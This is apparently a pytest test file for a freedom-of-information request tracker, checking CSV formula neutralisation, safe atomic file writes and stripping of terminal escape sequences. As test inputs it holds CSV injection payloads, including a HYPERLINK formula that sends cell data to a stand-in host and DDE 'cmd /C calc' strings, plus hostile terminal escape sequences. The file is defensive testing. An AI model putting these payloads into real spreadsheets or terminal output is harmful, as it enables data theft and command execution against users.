"""Safe output (issue 11): CSV cells that are no formulas, files written only as regular
files and atomically, and no control characters or escape sequences on the terminal."""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session

from tests.conftest import Cli
from wobtrack import db as database
from wobtrack.cli.render import terminal_text
from wobtrack.errors import InvalidInput
from wobtrack.exchange import csv_tables
from wobtrack.files import write_file_atomically
from wobtrack.models import Authority, Event, Request, RequestItem
from wobtrack.safetext import neutralise_csv_text

#: Text as an attacker would put it in a PDF or a database: escape sequences that set the
#: window title, clear the screen, colour text; a C1 CSI; a bell; a NUL.
HOSTILE = "a\x1b]0;pwned\x07b\x1b[2J\x1b[31mc\x9b1md\x07e\x00f\rg"


# --------------------------------------------------------------------------- CSV


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"klik")',
            '\'=HYPERLINK("http://x.example/?"&A1,"klik")',
        ),
        ("+31 6 12345678", "'+31 6 12345678"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("  =1+1", "'  =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r\n=1+1", "'\r\n=1+1"),
        ("Gemeente = college", "Gemeente = college"),
        ("5.1.2e", "5.1.2e"),
        ("", ""),
    ],
)
def test_neutralise_csv_text(text: str, expected: str) -> None:
    assert neutralise_csv_text(text) == expected


def test_csv_export_has_no_formula_cells(run: Cli, tmp_path: Path) -> None:
    # Before: the cells were written as they are, and a spreadsheet ran =HYPERLINK(...).
    run("request", "add", "-a", '=HYPERLINK("http://x.example","P")', "-s", "@SUM(A1:A9)",
        "--reference", "-1+1", "--notes", "\t=cmd|' /C calc'!A0", "--received", "2026-10-01",
        "--item", "+31 6 12345678")  # fmt: skip
    run("event", "add", "1", "note", "2026-10-02", "--note", "=1+1")
    run("export", "--format", "csv", "--out", str(tmp_path / "out"))
    cells: list[str] = []
    for path in (tmp_path / "out").glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        cells += [cell for row in rows for cell in row]
    formulas = [
        c
        for c in cells
        if c.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) and not c[1:].isdigit()
    ]
    assert formulas == []  # a negative whole number (days_left) is a number, no formula
    for written in ('\'=HYPERLINK("http://x.example","P")', "'@SUM(A1:A9)", "'-1+1",
                    "'\t=cmd|' /C calc'!A0", "'+31 6 12345678", "'=1+1"):  # fmt: skip
        assert written in cells
    # Numbers stay numbers: days_left of a passed deadline is negative and not quoted.
    deadlines = list(csv.DictReader(io.StringIO((tmp_path / "out/deadlines.csv").read_text())))
    assert any(row["days_left"].startswith("-") for row in deadlines)
    # JSON stays lossless.
    document = json.loads(run("export").stdout)
    assert document["authorities"][0]["name"] == '=HYPERLINK("http://x.example","P")'


def test_every_text_column_of_every_csv_table_is_neutralised() -> None:
    from wobtrack.exchange import table_columns

    document: dict[str, object] = {}
    for key, columns in table_columns().items():
        document[key] = [{c: ("=1+1" if kind == "str" else None) for c, kind in columns}]
    for key, content in csv_tables(document).items():  # type: ignore[arg-type]
        values = list(csv.reader(io.StringIO(content)))[1]
        assert "=1+1" not in values, key


# --------------------------------------------------------------------------- files


def test_remind_ics_refuses_a_fifo_and_a_folder(run: Cli, tmp_path: Path) -> None:
    # Before: `remind --ics PATH` renamed its temporary file over whatever PATH was: a FIFO,
    # or (as root) a device such as /dev/null, became a regular file.
    run("request", "add", "-a", "P", "-s", "x", "--received", "2026-11-01")
    fifo = tmp_path / "agenda.ics"
    os.mkfifo(fifo)
    run.fails("remind", "--ics", str(fifo), message="it is a pipe (FIFO), not a regular file")
    assert fifo.is_fifo()
    folder = tmp_path / "map"
    folder.mkdir()
    run.fails("remind", "--ics", str(folder), message="it is a folder, not a regular file")
    assert list(tmp_path.glob(".*.tmp")) == []  # no temporary file left behind


def test_remind_ics_replaces_a_regular_file_atomically(run: Cli, tmp_path: Path) -> None:
    run("request", "add", "-a", "P", "-s", "x", "--received", "2026-11-01")
    tmp_path = tmp_path / "files"
    tmp_path.mkdir()
    target = tmp_path / "agenda.ics"
    target.write_text("old")
    target.chmod(0o640)
    link = tmp_path / "link.ics"
    link.symlink_to(target)
    run("remind", "--ics", str(link))
    assert link.is_symlink()
    assert target.read_bytes().startswith(b"BEGIN:VCALENDAR")
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["agenda.ics", "link.ics"]


def test_export_refuses_a_fifo_in_the_folder(run: Cli, tmp_path: Path) -> None:
    run("request", "add", "-a", "P", "-s", "x")
    out = tmp_path / "out"
    out.mkdir()
    os.mkfifo(out / "requests.csv")
    run.fails("export", "--format", "csv", "--out", str(out), message="not a regular file")
    (out / "wobtrack-export.json").mkdir()
    run.fails("export", "--out", str(out), message="it is a folder, not a regular file")


def test_draft_out_refuses_a_fifo_and_an_existing_file(run: Cli, tmp_path: Path) -> None:
    run("request", "add", "-a", "P", "-s", "x", "--received", "2026-09-01")
    tmp_path = tmp_path / "files"
    tmp_path.mkdir()
    fifo = tmp_path / "brief.md"
    os.mkfifo(fifo)
    run.fails("draft", "ingebrekestelling", "1", "--out", str(fifo), message="not a regular file")
    existing = tmp_path / "bewerkt.md"
    existing.write_text("mijn eigen versie")
    run.fails("draft", "ingebrekestelling", "1", "--out", str(existing), message="already exists")
    assert existing.read_text() == "mijn eigen versie"
    fresh = tmp_path / "nieuw.md"
    run("draft", "ingebrekestelling", "1", "--out", str(fresh))
    assert "ingebrekestelling" in fresh.read_text(encoding="utf-8").lower()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bewerkt.md", "brief.md", "nieuw.md"]


def test_a_failed_write_leaves_the_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "agenda.ics"
    target.write_bytes(b"old")

    def broken_replace(source: str, destination: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(InvalidInput, match=r"cannot write .*: No space left on device"):
        write_file_atomically(target, b"new")
    assert target.read_bytes() == b"old"
    assert [p.name for p in tmp_path.iterdir()] == ["agenda.ics"]


def test_a_device_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    # /dev/null is only stat()ed: the check comes before any temporary file is made.
    with pytest.raises(InvalidInput, match="it is a device, not a regular file"):
        write_file_atomically(Path("/dev/null"), b"x")
    assert Path("/dev/null").is_char_device()


def test_a_missing_folder_is_one_line(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match=r"cannot write .*: No such file or directory"):
        write_file_atomically(tmp_path / "nope" / "x.ics", b"x")


# --------------------------------------------------------------------------- terminal


def test_terminal_text_strips_escape_sequences() -> None:
    assert terminal_text(HOSTILE) == "abcdefg"
    assert terminal_text("regel 1\n\tregel 2 — é") == "regel 1\n\tregel 2 — é"


def _store_hostile_text(db_url: str) -> None:
    """Text as an older wobtrack stored it, or as a decision letter brought it in."""
    engine = database.make_engine(db_url)
    clean = HOSTILE.replace("\x00", "")  # PostgreSQL cannot store NUL at all
    try:
        with Session(engine) as session, session.begin():
            session.execute(update(Authority).values(name="Gemeente " + clean))
            session.execute(update(Request).values(subject="Parkeren " + clean, notes=clean))
            session.execute(update(RequestItem).values(text="de nota " + clean))
            session.execute(update(Event).values(note=clean))
    finally:
        engine.dispose()


@pytest.mark.parametrize(
    "command",
    [
        ["request", "list"],
        ["request", "show", "1"],
        ["remind"],
        ["deadlines"],
        ["summary"],
        ["draft", "ingebrekestelling", "1"],
        ["event", "add", "1", "\x1b]0;pwned\x07", "2026-10-02"],
    ],
)
def test_no_escape_sequence_reaches_the_terminal(run: Cli, command: list[str]) -> None:
    # Before: text from a PDF or a user was printed as it was: an OSC sequence set the
    # terminal's title, CSI sequences cleared the screen.
    run("request", "add", "-a", "P", "-s", "x", "--received", "2026-09-01", "--item", "nota")
    run("event", "add", "1", "note", "2026-09-02", "--note", "n")
    _store_hostile_text(run.db_url)
    result = run(*command, ok=False)
    assert "Traceback" not in result.output
    for stream in (result.stdout, result.stderr):
        assert not any(ch in stream for ch in "\x00\x07\x1b\x9b\r"), repr(stream)


def test_json_output_escapes_c1_controls(run: Cli) -> None:
    run("request", "add", "-a", "P", "-s", "x")
    _store_hostile_text(run.db_url)
    out = run("request", "show", "1", "--json").stdout
    assert not any(ch in out for ch in "\x07\x1b\x9b")
    assert json.loads(out)["subject"] == "Parkeren " + HOSTILE.replace("\x00", "")
